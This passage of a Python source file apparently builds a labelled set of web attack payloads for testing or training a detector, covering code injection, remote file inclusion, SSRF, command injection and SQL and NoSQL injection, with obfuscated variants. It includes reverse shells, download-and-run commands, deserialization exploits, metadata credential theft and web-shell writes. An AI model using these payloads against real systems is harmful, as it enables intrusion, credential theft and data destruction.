    b"\x80\x02csubprocess\ncheck_output\nq\x00]q\x01(X\x02\x00\x00\x00idq\x02e\x85q\x03Rq\x04."
).decode()

CODE = [
    A("__import__('os').system('id')", "query", param="expr"),
    A("eval(compile('import os;os.system(\"id\")','x','exec'))", "json", param="formula"),
    A("exec(\"import subprocess;subprocess.check_output(['cat','/etc/passwd'])\")", "form", param="code"),
    A(py_pickle_b64("curl http://203.0.113.40/p | sh"), "cookie", ck="prefs", ep="/dashboard"),
    A(
        '!!python/object/apply:os.system ["id"]\n',
        "multipart",
        mp="file",
        fname="config.yaml",
        fctype="application/x-yaml",
        field="config",
        ep="/api/v1/projects/import",
    ),
    A(
        '!!python/object/new:subprocess.check_output [["nc","-e","/bin/sh","198.51.100.2","9001"]]',
        "json",
        param="yaml",
        ep="/api/v2/pipelines/validate",
    ),
    A("require('child_process').execSync('id').toString()", "json", param="filter", deep=2),
    A("process.mainModule.require('child_process').exec('curl 203.0.113.7/n|sh')", "query", param="fn"),
    A(
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')",
        "form",
        param="name",
    ),
    A(
        "__proto__",
        "json_key",
        ep="/api/users/me/preferences",
        doc={
            "profile": {
                "theme": "dark",
                KMARK: {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"},
            }
        },
    ),
    A("constructor[prototype][NODE_OPTIONS]", "query_key", kval="--require /proc/self/environ", ep="/api/v1/search"),
    A("%x(cat /etc/passwd)", "form", param="q", ep="/tools/evaluate"),
    A("IO.popen('id').read", "json", param="value", deep=3),
    A(
        "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
        "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
        '       read: 0\n       header: "abc"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n'
        "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
        "           git_set: id\n       method_id: :resolve\n",
        "multipart",
        mp="file",
        fname="import.yml",
        fctype="text/yaml",
        field="file",
        ep="/admin/import",
    ),
    A("\".system('id').\"", "query", param="greeting", ep="/cgi-bin/hello.pl"),
    A('os.execute("id")', "json", param="script", ep="/api/gateway/plugins"),
    A('System.Diagnostics.Process.Start("cmd.exe","/c whoami")', "json", param="expression", ep="/api/reports/formula"),
    A("{user.__init__.__globals__[config][SECRET_KEY]}", "query", param="greeting", ep="/api/notifications/preview"),
    A("().__class__.__bases__[0].__subclasses__()", "query", param="q", ep="/sandbox/run"),
    A("require('fs').readFileSync('/etc/passwd','utf8')", "json", param="sortBy", ep="/api/v2/filters"),
    A("new Function('return process')().env", "form", param="handler"),
    A(
        "vm.runInNewContext(\"this.constructor.constructor('return process')().exit()\")",
        "json",
        param="rule",
        ep="/api/automation/rules",
    ),
    A(
        "mutation { runReport(expression: \"__import__('os').popen('id').read()\") { result } }",
        "json",
        ep="/graphql",
        doc={"query": MARK, "variables": {}},
    ),
    A(
        "{\"transform\":\"require('child_process').execSync('cat /etc/shadow')\"}",
        "json",
        param="config",
        ep="/api/v1/transform",
    ),
    A(
        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,s){console.log(s)})}()\"}",
        "cookie",
        ck="profile",
    ),
    A('__import__("subprocess").getoutput("id")', "xml", param="formula", ep="/api/legacy/evaluate"),
    A('System.cmd("id", [])', "json", param="code", ep="/sandbox/run"),
    A('system("id", intern=TRUE)', "json", param="expr", ep="/api/stats/eval"),
    A(
        "cposix\nsystem\n(Vcurl -s 198.51.100.8/i|sh\ntR.",
        "multipart",
        mp="file",
        fname="model.pkl",
        fctype="application/octet-stream",
        field="model",
        ep="/api/ml/models/upload",
    ),
    A("require('child_process').spawnSync('sh',['-c','id']).stdout+''", "query", param="transform"),
    # ---- hard
    A("getattr(__builtins__,'__imp'+'ort__')('o'+'s').system('id')", "query", 1, param="expr"),
    A("eval(bytes.fromhex('%s').decode())" % _pyhex, "json", 1, param="formula"),
    A("exec(__import__('base64').b64decode('%s'))" % _pyb64, "form", 1, param="code"),
    A("exec(''.join(map(chr,[%s])))" % _pychr, "json", 1, param="value", deep=6),
    A(
        "[].constructor.constructor('return this.process')().mainModule.require('child_process').execSync('id')",
        "json",
        1,
        param="callback",
    ),
    A(
        "this['constru'+'ctor']['constru'+'ctor']('return pro'+'cess')()['mainModule']['require']('child_'+'process')['execSync']('id')",
        "form",
        1,
        param="transform",
    ),
    A("\\u0072equire('child_process').execSync('id')", "json", 1, param="filter"),
    A("require('\\x63hild_process')['\\x65xecSync']('id')", "query", 1, param="fn"),
    A("eval(Buffer.from('%s','base64').toString())" % _jsb64, "json", 1, param="script", deep=2),
    A(
        '[]["filter"]["constructor"]("return process")()["mainModule"]["require"]("child_process")["execSync"]("id")',
        "form",
        1,
        param="callback",
    ),
    A('Kernel.public_send("sys"+"tem","id")', "json", 1, param="rule"),
    A('Kernel.method(("sy"+"stem").to_sym).call("id")', "query", 1, param="q"),
    A(
        "(f:=__builtins__.__dict__['ev'+'al'])(\"__import__('os').popen('id').read()\")",
        "multipart",
        1,
        mp="field",
        param="expr",
    ),
    A(
        "constructor",
        "json_key",
        1,
        ep="/api/v1/settings/merge",
        doc={"settings": {"ui": {KMARK: {"prototype": {"isAdmin": True}}}}},
    ),
    A("__pro__proto__to__[polluted]", "query_key", 1, kval="yes", ep="/api/v1/search"),
    A(_pickle2, "json", 1, param="model_state", ep="/api/ml/restore"),
    A(
        '!<tag:yaml.org,2002:python/object/apply:os.system> ["curl 198.51.100.9 -o /tmp/a"]\n',
        "multipart",
        1,
        mp="file",
        fname="settings.yaml",
        fctype="application/yaml",
        field="file",
        ep="/api/v1/projects/import",
    ),
    A(
        "module.constructor._load('child_process').execSync('id')",
        "xml",
        1,
        param="expression",
        ep="/api/legacy/evaluate",
    ),
    A("eval(String.fromCharCode(%s))" % _jschr, "cookie", 1, ck="widget_cfg"),
    A(
        'Type.GetType("System.Diagnostics.Pro"+"cess").GetMethod("Start",new[]{typeof(string),typeof(string)}).Invoke(null,new object[]{"cmd","/c whoami"})',
        "json",
        1,
        param="expression",
        ep="/api/reports/formula",
    ),
]

# ---------------------------------------------------------------- rfi
CTX["rfi"] = dict(
    eps=[
        "/index.php",
        "/modules/loader.php",
        "/page.php",
        "/templates/load.php",
        "/wp-content/plugins/gallery/inc.php",
        "/lang.php",
        "/portal/view.php",
        "/main.php",
        "/cms/show.php",
        "/help/topic.php",
    ],
    params=["page", "include", "file", "template", "lang", "module", "path", "inc", "view", "doc"],
)


def _ip_dec(ip):
    a, b, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


RFI = [
    A("http://203.0.113.5/shell.txt?", "query", param="page"),
    A("https://cdn-evil.example/inc/c99.txt", "query", param="include"),
    A("ftp://anonymous:x@198.51.100.20/pub/r57.txt", "query", param="file"),
    A("\\\\198.51.100.33\\share\\webshell.php", "query", param="template"),
    A("//attacker.example/payloads/php/backdoor.txt", "query", param="lang"),
    A("https://drive.attacker.example/uc?export=download&id=1xQ9", "query", param="tpl", ep="/templates/load.php"),
    A("http://192.0.2.77:8080/inc.php", "query", param="module"),
    A("https://raw.example-git.test/evil/shells/main/mini.php", "query", param="path"),
    A("http://203.0.113.5/shell.txt#", "query", param="view"),
    A(
        "http://198.51.100.5/cmd.txt?",
        "query",
        param="mosConfig_absolute_path",
        ep="/components/com_content/content.php",
    ),
    A("http://203.0.113.99/id.txt??", "query", param="_SERVER[DOCUMENT_ROOT]", ep="/includes/functions.php"),
    A(
        "http://attacker.example/wp-load.php?",
        "query",
        param="abspath",
        ep="/wp-content/plugins/old-gallery/admin/upload.php",
    ),
    A("http://198.51.100.17/r.txt?", "query", param="phpbb_root_path", ep="/forum/includes/common.php"),
    A("https://evil.example/templates/default.php", "json", param="template_url", deep=2, ep="/api/site/theme"),
    A("http://203.0.113.120/tpl/header.inc", "form", param="template", ep="/admin/layout.php"),
    A("http://198.51.100.61/lang/en.php", "cookie", ck="lang", ep="/index.php"),
    A("http://203.0.113.66/mod.txt", "xml", param="module", ep="/xmlrpc/loader.php"),
    A("https://skins.evil.example/dark.php", "multipart", mp="field", param="skin", ep="/admin/appearance.php"),
    A(
        "data://text/plain;base64," + base64.b64encode(b"<?php echo shell_exec($_GET['c']); ?>").decode(),
        "query",
        param="page",
    ),
    A("https://pastebin.example/raw/Zx8Q1m", "query", param="inc"),
    A("ftps://files.attacker.example/incl/config.php", "query", param="include"),
    A("http://198.51.100.50/shell.jpg", "query", param="file", ep="/gallery/show.php"),
    A("http://203.0.113.44/p.txt", "path", pre="/view/", ep="/view"),
    A("http://198.51.100.41/webshells/wso.txt?", "json", param="layout", ep="/api/pages/render"),
    A("http://evil.example/inc/config.inc.php?cmd=id", "form", param="page"),
    A(
        'query { renderPage(template: "http://203.0.113.91/t.php") { html } }',
        "json",
        ep="/graphql",
        doc={"query": MARK},
    ),
    A('{"include":"https://evil.example/x.txt"}', "json", param="options", ep="/api/widgets"),
    A(
        "http://198.51.100.200/plugins/evil-plugin.zip",
        "multipart",
        mp="field",
        param="plugin_url",
        ep="/admin/plugins/install",
    ),
    A("http://lib.attacker.example/jquery.php?v=", "query", param="inc", ep="/footer.php"),
    A("http://203.0.113.150/rfi/header.txt?", "query", param="header", ep="/layout.php", mode="raw"),
    # ---- hard
    A("HtTp://203.0.113.5/sh.txt?", "query", 1, param="page"),
    A("http:%2f%2f198.51.100.2%2fc.txt", "query", 1, param="file"),
    A("http://203.0.113.88/x.txt%00", "query", 1, param="lang"),
    A("\\\\attacker.example@SSL\\DavWWWRoot\\s.php", "query", 1, param="template"),
    A("ssh2.sftp://user:pw@198.51.100.3:22/var/tmp/s.php", "query", 1, param="inc"),
    A("compress.zlib://http://203.0.113.5/s.txt", "query", 1, param="page"),
    A("data:;base64," + base64.b64encode(b'<?php system("id");?>').decode(), "form", 1, param="include"),
    A("zip://uploads/avatar_77.jpg#shell.php", "query", 1, param="module"),
    A("http://%d/shell.txt" % _ip_dec("203.0.113.5"), "query", 1, param="page"),
    A("http://0x%x/inc.txt" % _ip_dec("203.0.113.5"), "json", 1, param="template"),
    A("http://[::ffff:cb00:7105]/i.txt", "query", 1, param="view"),
    A("https://evil.example/inc.txt%3f", "cookie", 1, ck="tpl"),
    A("http://203.0.113.5\\@trusted.example/s.txt", "query", 1, param="doc"),
    A("\uff48\uff54\uff54\uff50://203.0.113.5/s.txt", "json", 1, param="include", deep=3),
    A("php://filter/resource=http://203.0.113.5/s.txt", "query", 1, param="file"),
    A("file://203.0.113.5/share/x.php", "form", 1, param="path"),
    A("http://attacker.example/r57.txt???", "multipart", 1, mp="field", param="page"),
    A("\\\\?\\UNC\\198.51.100.33\\share\\c.php", "json", 1, param="file"),
    A("https:\\\\evil.example\\x.txt", "query", 1, param="lang"),
    A("http://203.0.113.7/s.txt\x00", "query", 1, param="inc"),
]

# ---------------------------------------------------------------- ssrf
CTX["ssrf"] = dict(
    eps=[
        "/api/v1/webhooks",
        "/api/fetch",
        "/proxy",
        "/api/import/url",
        "/api/v2/avatar",
        "/tools/screenshot",
        "/api/pdf/render",
        "/api/preview/link",
        "/integrations/test",
        "/image-proxy",
    ],
    params=["url", "target", "src", "callback", "webhook", "image_url", "feed", "uri", "link", "endpoint"],
)

SSRF = [
    A("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "query", param="url"),
    A(
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "json",
        param="webhook_url",
        ep="/api/v1/webhooks",
    ),
    A("http://100.100.100.200/latest/meta-data/ram/security-credentials/", "form", param="feed"),
    A("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "json", param="callbackUrl", deep=2),
    A("http://127.0.0.1:6379/", "query", param="target"),
    A(
        "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$34%0d%0a<?php system($_GET[c]); ?>%0d%0a",
        "json",
        param="url",
    ),
    A("dict://127.0.0.1:11211/stats", "query", param="uri"),
    A("file:///etc/passwd", "json", param="image_url", ep="/api/v2/avatar"),
    A("http://localhost:2375/containers/json", "form", param="endpoint", ep="/integrations/test"),
    A("http://127.0.0.1:8500/v1/agent/self", "query", param="url"),
    A("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "json", param="source"),
    A("http://127.0.0.1:10250/pods", "query", param="link"),
    A("http://localhost:9200/_cat/indices?v", "json", param="feed_url", ep="/api/import/url"),
    A("http://0.0.0.0:8080/actuator/env", "query", param="callback"),
    A("http://169.254.169.254/opc/v2/instance/", "json", param="target", deep=1),
    A("http://169.254.169.254/metadata/v1.json", "xml", param="FeedUrl", ep="/api/feeds/subscribe"),
    A("http://192.168.0.1/cgi-bin/luci", "query", param="src"),
    A("http://10.0.0.5:8080/manager/html", "multipart", mp="field", param="remote_url", ep="/api/import/url"),
    A("http://localhost:15672/api/users", "query", param="url"),
    A(
        "http://127.0.0.1:5984/_all_dbs",
        "json",
        ep="/_replicate",
        doc={"source": MARK, "target": "backup", "continuous": False},
    ),
    A("http://169.254.170.2/v2/credentials/", "query", param="url"),
    A("ldap://127.0.0.1:389/dc=corp,dc=internal", "form", param="directory_url", ep="/admin/sso/test"),
    A(
        'mutation { importFeed(url: "http://localhost:8001/api/v1/namespaces/default/pods") { id status } }',
        "json",
        ep="/graphql",
        doc={"query": MARK, "variables": {}},
    ),
    A(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">\n'
        '  <image xlink:href="http://169.254.169.254/latest/user-data" width="64" height="64"/>\n</svg>\n',
        "multipart",
        mp="file",
        fname="avatar.svg",
        fctype="image/svg+xml",
        field="avatar",
        ep="/api/v2/avatar",
    ),
    A(
        '<iframe src="http://127.0.0.1:8080/admin" width="800" height="600"></iframe>',
        "json",
        param="html",
        ep="/api/pdf/render",
    ),
    A(
        "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
        "query",
        param="image",
        ep="/image-proxy",
    ),
    A("jar:http://127.0.0.1:8080/upload/evil.jar!/", "json", param="schemaLocation"),
    A("netdoc:///etc/passwd", "query", param="uri"),
    A("http://127.0.0.1:2379/v2/keys/?recursive=true", "query", param="proxy_url"),
    A("http://internal-billing.corp.local/api/invoices?all=1", "query", param="url", ep="/tools/screenshot"),
    # ---- hard
    A("http://2852039166/latest/meta-data/", "query", 1, param="url"),
    A("http://0xA9FEA9FE/latest/meta-data/", "json", 1, param="webhook"),
    A("http://0251.0376.0251.0376/latest/user-data", "form", 1, param="link"),
    A("http://169.16689662/latest/meta-data/", "query", 1, param="src"),
    A("http://127.1:6379/", "query", 1, param="target"),
    A("http://017700000001:8080/", "json", 1, param="endpoint"),
    A("http://[::ffff:127.0.0.1]:8500/v1/kv/?recurse", "query", 1, param="url"),
    A("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "json", 1, param="image_url"),
    A("http://[fd00:ec2::254]/latest/meta-data/", "query", 1, param="feed"),
    A("http://[::1]:9200/_search?q=*", "form", 1, param="uri"),
    A("http://[0:0:0:0:0:0:0:1]:2375/info", "query", 1, param="callback"),
    A("http://169.254.169.254.nip.io/latest/meta-data/", "json", 1, param="url"),
    A("http://a9fea9fe.7f000001.rbndr.us/latest/meta-data/", "query", 1, param="webhook"),
    A("http://localtest.me:8080/admin", "multipart", 1, mp="field", param="link"),
    A("http://allowed.example.com@169.254.169.254/latest/meta-data/", "query", 1, param="url"),
    A("http://127.0.0.1:80\\@allowed.example.com/", "json", 1, param="url"),
    A("http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/", "json", 1, param="target"),
    A("http://0:8080/actuator/heapdump", "query", 1, param="endpoint"),
    A("http://instance-data/latest/meta-data/", "query", 1, param="image", ep="/image-proxy"),
    A("http://metadata/computeMetadata/v1/instance/hostname", "xml", 1, param="CallbackUrl", ep="/api/feeds/subscribe"),
]

# ---------------------------------------------------------------- rce
CTX["rce"] = dict(
    eps=[
        "/api/network/ping",
        "/admin/diagnostics",
        "/cgi-bin/status",
        "/tools/dns-lookup",
        "/api/v1/convert",
        "/api/backup/run",
        "/admin/system/traceroute",
        "/api/media/thumbnail",
        "/api/git/clone",
        "/device/setup.cgi",
    ],
    params=["host", "ip", "target", "domain", "filename", "file", "cmd", "addr", "name", "format"],
)

_ps = base64.b64encode("iwr http://203.0.113.9/a -OutFile $env:TEMP\\a.exe".encode("utf-16-le")).decode()
_ps2 = base64.b64encode(b"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.6/r')").decode()

RCE = [
    A("127.0.0.1; id", "query", param="host"),
    A("8.8.8.8 | cat /etc/passwd", "form", param="ip"),
    A("example.com && curl -s http://203.0.113.7/x.sh | sh", "json", param="domain"),
    A("$(whoami)", "query", param="name"),
    A("`uname -a`", "form", param="hostname"),
    A("1.1.1.1 || ping -c 3 198.51.100.9", "query", param="target"),
    A("report.pdf; rm -rf /var/www/html/uploads", "json", param="filename", ep="/api/v1/convert"),
    A("google.com; bash -i >& /dev/tcp/203.0.113.3/4444 0>&1", "form", param="domain"),
    A("127.0.0.1 & whoami", "query", param="ip"),
    A("test.txt | type C:\\Windows\\win.ini", "query", param="file"),
    A(
        "x & powershell -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.5/a.ps1')\"",
        "json",
        param="host",
    ),
    A(
        "a.jpg & certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe",
        "multipart",
        mp="filename",
        field="file",
        fctype="text/plain",
        fcontent="x\n",
        ep="/api/media/thumbnail",
    ),
    A("127.0.0.1;nc -e /bin/sh 203.0.113.3 4444", "header", hdr="X-Forwarded-For", ep="/admin/diagnostics"),
    A("--upload-pack=touch /tmp/pwned", "json", param="branch", ep="/api/git/clone"),
    A("-oProxyCommand=curl 203.0.113.4|sh", "form", param="ssh_host", ep="/admin/deploy/test"),
    A("--output=/var/www/html/s.php http://203.0.113.2/s.txt", "query", param="url", ep="/tools/fetch"),
    A(
        "$(id).png",
        "multipart",
        mp="filename",
        field="image",
        fctype="text/plain",
        fcontent="placeholder\n",
        ep="/api/media/thumbnail",
    ),
    A("8.8.8.8\nid", "query", param="ip"),
    A("| wget http://198.51.100.20/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot", "json", param="addr"),
    A("; cat /proc/self/environ", "xml", param="hostname", ep="/device/setup.cgi"),
    A("example.org; sleep 10", "query", param="domain"),
    A("1.2.3.4 | ping -n 10 127.0.0.1", "form", param="target"),
    A("| net user backup P@ss123 /add", "query", param="ip"),
    A("; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3xq attacker' >> ~/.ssh/authorized_keys", "json", param="name"),
    A("&& python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "form", param="target"),
    A('; php -r \'$s=fsockopen("203.0.113.3",1234);exec("sh <&3 >&3 2>&3");\'', "json", param="host"),
    A('mutation { ping(host: "127.0.0.1; cat /etc/hosts") { output } }', "json", ep="/graphql", doc={"query": MARK}),
    A('{"cmd":"ls","args":"-la; id"}', "json", param="job", ep="/api/backup/run"),
    A("$(curl -s http://198.51.100.4/k|sh)", "multipart", mp="field", param="hostname", ep="/admin/diagnostics"),
    A("host.example;ls -la /", "cookie", ck="last_host", ep="/tools/dns-lookup"),
    # ---- hard
    A(";cat${IFS}/etc/passwd", "query", 1, param="host"),
    A(";{cat,/etc/passwd}", "json", 1, param="ip"),
    A(";c'a't /e\"t\"c/pa\\ss\\wd", "form", 1, param="domain"),
    A(";$'\\x63\\x61\\x74' /etc/passwd", "query", 1, param="target"),
    A(";/???/??t /???/p??s??", "query", 1, param="file"),
    A("$(printf '\\151\\144')", "json", 1, param="name"),
    A(";echo %s | base64 -d | sh" % base64.b64encode(b"cat /etc/passwd").decode(), "form", 1, param="addr"),
    A("1.1.1.1%0aid", "query", 1, param="ip"),
    A(";wh$@oami", "query", 1, param="host"),
    A(";who$()ami", "cookie", 1, ck="diag_host"),
    A("127.0.0.1\t&&\tid", "form", 1, param="ip"),
    A(";cat</etc/passwd", "json", 1, param="target"),
    A("& who^ami", "query", 1, param="host"),
    A('& p""ow""er^shell -e ' + _ps, "json", 1, param="host", deep=2),
    A("& %COMSPEC% /c dir C:\\", "form", 1, param="file"),
    A("&set x=whoa&&call %x%mi", "multipart", 1, mp="field", param="target"),
    A(";${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id", "query", 1, param="domain"),
    A(";X=$'cat\\x20/etc/passwd'&&$X", "json", 1, param="addr"),
    A(";$(rev<<<'di')", "query", 1, param="name"),
    A(
        "|IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))" % _ps2,
        "xml",
        1,
        param="hostname",
        ep="/device/setup.cgi",
    ),
]

# ---------------------------------------------------------------- sqli
CTX["sqli"] = dict(
    eps=[
        "/products",
        "/api/v2/orders",
        "/search",
        "/catalog/items",
        "/reports/sales",
        "/api/users",
        "/news/article",
        "/api/inventory",
        "/api/analytics/query",
        "/shop/category",
    ],
    params=["id", "category", "sort", "q", "order_id", "user", "filter", "from", "year", "product_id"],
)

SQLI = [
    A(
        "' OR '1'='1' -- -",
        "form",
        ep="/login",
        fields=[("username", MARK), ("password", "hunter2"), ("remember", "on")],
    ),
    A("1 UNION SELECT username,password FROM users--", "query", param="id"),
    A("1 AND SLEEP(5)", "query", param="product_id"),
    A("1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", "query", param="category"),
    A("'; DROP TABLE sessions;--", "form", param="q"),
    A("1; WAITFOR DELAY '0:0:5'--", "query", param="order_id"),
    A("1' AND extractvalue(1,concat(0x7e,version()))-- -", "query", param="id"),
    A("1 AND 1=CAST((SELECT version()) AS int)", "json", param="id"),
    A("'||(SELECT pg_sleep(5))||'", "form", param="filter"),
    A(
        "price DESC, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)",
        "query",
        param="sort",
    ),
    A("admin'--", "form", ep="/login", fields=[("email", MARK), ("password", "x")]),
    A("' UNION SELECT sql,2,3 FROM sqlite_master--", "query", param="q"),
    A("' UNION ALL SELECT name, engine FROM system.tables --", "query", param="filter", ep="/api/analytics/query"),
    A(
        "1 UNION ALL SELECT * FROM url('http://203.0.113.5/x.csv','CSV','a String')",
        "json",
        param="dashboard_id",
        ep="/api/analytics/query",
    ),
    A(
        "' UNION SELECT CURRENT_ACCOUNT(), CURRENT_ROLE(), CURRENT_WAREHOUSE() --",
        "query",
        param="region",
        ep="/reports/sales",
    ),
    A("'; CALL SYSTEM$WAIT(5); --", "form", param="warehouse"),
    A("' UNION SELECT banner,NULL FROM v$version--", "query", param="user"),
    A("' AND 1=UTL_INADDR.get_host_address((SELECT user FROM dual))--", "cookie", ck="store_pref"),
    A("1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)", "query", param="year"),
    A("1; EXEC xp_cmdshell 'whoami'--", "query", param="id"),
    A("'; EXEC master..xp_dirtree '\\\\203.0.113.2\\x'--", "json", param="username"),
    A("1; COPY (SELECT '') TO PROGRAM 'curl 198.51.100.3'--", "query", param="from"),
    A("' UNION SELECT LOAD_FILE('/etc/passwd'),2--", "query", param="q"),
    A("' UNION SELECT '<?php system($_GET[1]);?>' INTO OUTFILE '/var/www/html/s.php'-- -", "form", param="search"),
    A(
        "x' UNION ALL SELECT schema_name FROM `region-us`.INFORMATION_SCHEMA.SCHEMATA --",
        "json",
        param="dataset",
        ep="/api/analytics/query",
    ),
    A("' UNION SELECT * FROM read_csv_auto('/etc/passwd') --", "query", param="file_id"),
    A("{ users(filter: \"name = 'a' OR 1=1 --\") { id email } }", "json", ep="/graphql", doc={"query": MARK}),
    A('{"status":"active\' OR 1=1 -- "}', "json", param="where", ep="/api/v2/orders/search"),
    A("-1 UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -", "cookie", ck="user_id"),
    A(
        "'; CREATE ALIAS SHELLEXEC AS $$ String s(String c) throws Exception { return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes()); } $$; CALL SHELLEXEC('id');--",
        "multipart",
        mp="field",
        param="report_name",
        ep="/reports/custom",
    ),
    # ---- hard
    A("1/**/UNION/**/SELECT/**/user,password/**/FROM/**/mysql.user#", "query", 1, param="id"),
    A("1 /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,3-- -", "query", 1, param="category"),
    A("1 uNiOn SeLeCt NuLl,CoNcAt(user(),0x3a,database())-- -", "query", 1, param="product_id"),
    A("1\x0bUNION\x0bSELECT\x0b1,2", "query", 1, param="id"),
    A("1\u00a0OR\u00a01=1", "json", 1, param="id"),
    A("'||(SELECT CHR(65)||CHR(66) FROM dual)||'", "form", 1, param="q"),
    A("' OR username=0x61646d696e-- -", "form", 1, ep="/login", fields=[("username", MARK), ("password", "a")]),
    A("' OR 2>1#", "query", 1, param="user"),
    A("1e0UNION SELECT table_name,2 FROM information_schema.tables", "query", 1, param="id"),
    A("1.e(ascii((select substr(version(),1,1))))", "query", 1, param="year"),
    A("' OR JSON_EXTRACT('{\"a\":1}','$.a')=1 -- ", "json", 1, param="name"),
    A("1 AND $$x$$=$$x$$ UNION SELECT current_user,NULL--", "query", 1, param="order_id"),
    A("\uff07 OR 1=1--", "query", 1, param="q"),
    A("%27%20OR%201%3D1--%20-", "query", 1, param="search"),
    A("'OR'x'LIKE'x", "cookie", 1, ck="cart_id"),
    A("'||(SELECT LISTAGG(name,',') FROM SNOWFLAKE.ACCOUNT_USAGE.USERS)||'", "json", 1, param="warehouse", deep=3),
    A("'||(SELECT CHAR(115,113,108)||sqlite_version())||'", "multipart", 1, mp="field", param="title"),
    A(
        "5' AND 1=(SELECT COUNT(*) FROM pg_stat_activity)--",
        "json",
        1,
        ep="/graphql",
        doc={"query": "query($id: String!) { order(id: $id) { id total status } }", "variables": {"id": MARK}},
    ),
    A("1'#\nUNION\nSELECT password FROM users#", "form", 1, param="id"),
    A("1 AND `id`=`id` UNION SELECT 1,2,group_concat(email)", "xml", 1, param="productId", ep="/api/legacy/catalog"),
]

# ---------------------------------------------------------------- nosqli
CTX["nosqli"] = dict(
    eps=[
        "/api/auth/login",
        "/api/v1/users/search",
        "/api/products",
        "/api/v2/orders/find",
        "/login",
        "/api/posts",
        "/api/accounts/lookup",
        "/api/inventory/query",
        "/api/sessions",
        "/api/v1/tickets",
    ],
    params=["username", "password", "filter", "where", "q", "email", "token", "role", "status", "owner"],
)

NOSQLI = [
    A('{"$ne":null}', "json", jobj=True, ep="/api/auth/login", doc={"username": "admin", "password": MARK}),
    A("username[$ne]", "form", key=True, ep="/login", fields=[(KMARK, "x"), ("password[$ne]", "x")]),
    A("password[$regex]", "form", key=True, ep="/login", fields=[("username", "admin"), (KMARK, "^a.*")]),
    A('{"$gt":""}', "json", jobj=True, ep="/api/auth/login", doc={"email": "admin@northwind.test", "password": MARK}),
    A('{"$where":"sleep(5000)||true"}', "json", jobj=True, param="filter"),
    A('{"$where":"this.password.match(/^adm/)"}', "json", jobj=True, param="query", ep="/api/v1/users/search"),
    A('{"$expr":{"$gt":[{"$strLenCP":"$password"},5]}}', "json", jobj=True, param="filter", deep=1),
    A(
        '{"$expr":{"$function":{"body":"function(){ return sleep(3000) || true; }","args":[],"lang":"js"}}}',
        "json",
        jobj=True,
        param="where",
    ),
    A(
        '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}}]',
        "json",
        jobj=True,
        param="pipeline",
        ep="/api/reports/aggregate",
    ),
    A("'; return true; var x='", "query", param="name"),
    A("' || 'a'=='a", "query", param="q"),
    A('{"$or":[{},{"a":"a"}]}', "json", jobj=True, param="filter"),
    A(
        '{"$in":["admin","root","administrator"]}',
        "json",
        jobj=True,
        ep="/api/auth/login",
        doc={"username": MARK, "password": {"$exists": True}},
    ),
    A('{"$exists":true}', "cookie", ck="role_filter", ep="/api/posts"),
    A('{"selector":{"_id":{"$gt":null}},"limit":10000}', "json", jobj=True, ep="/userdb/_find", doc=MARK),
    A("* OR _exists_:password", "query", param="q", ep="/api/search"),
    A(
        "' OR 1=1 WITH 1 as a CALL dbms.components() YIELD name RETURN name //",
        "query",
        param="name",
        ep="/api/graph/people",
    ),
    A("'}) MATCH (n) DETACH DELETE n //", "form", param="title", ep="/api/graph/nodes"),
    A(
        "' LOAD CSV FROM 'http://203.0.113.5/'+n.password AS y RETURN ''//",
        "json",
        param="name",
        ep="/api/graph/people",
    ),
    A("x' || 1==1 RETURN doc //", "query", param="key", ep="/_db/app/api/items"),
    A(
        '{"ComparisonOperator":"GT","AttributeValueList":[{"S":"*"}]}',
        "json",
        jobj=True,
        param="password",
        ep="/api/auth/login",
    ),
    A("user[$regex]", "query_key", kval=".*", ep="/api/v1/users/search"),
    A("filter[role][$ne]", "query_key", kval="user", ep="/api/accounts/lookup"),
    A(
        '{ products(where: "{\\"price\\": {\\"$gt\\": 0}, \\"$where\\": \\"sleep(2000)\\"}") { id name } }',
        "json",
        ep="/graphql",
        doc={"query": MARK},
    ),
    A('{"$regex":".*","$options":"si"}', "json", jobj=True, param="email"),
    A(
        '[{"$group":{"_id":null,"x":{"$accumulator":{"init":"function(){ sleep(5000); return 0 }","accumulate":"function(s){return s}","accumulateArgs":["$a"],"merge":"function(a){return a}","lang":"js"}}}}]',
        "json",
        jobj=True,
        param="pipeline",
        ep="/api/reports/aggregate",
